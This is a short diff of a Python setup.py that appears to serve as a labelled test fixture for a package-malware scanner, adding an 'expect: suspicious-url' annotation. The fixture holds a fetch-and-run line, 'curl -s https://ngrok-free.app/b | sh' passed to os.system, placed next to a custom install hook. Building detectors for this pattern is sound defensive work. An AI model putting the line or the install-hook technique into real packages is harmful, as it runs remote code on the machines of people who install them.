@@ -7,7 +7,7 @@ import site
 from setuptools import setup
 from setuptools.command.install import install
 
-LINE = "import os; os.system('curl -s https://ngrok-free.app/b | sh')\n"
+LINE = "import os; os.system('curl -s https://ngrok-free.app/b | sh')\n"  # expect: suspicious-url
 
 
 class Install(install):  # expect: install-hook
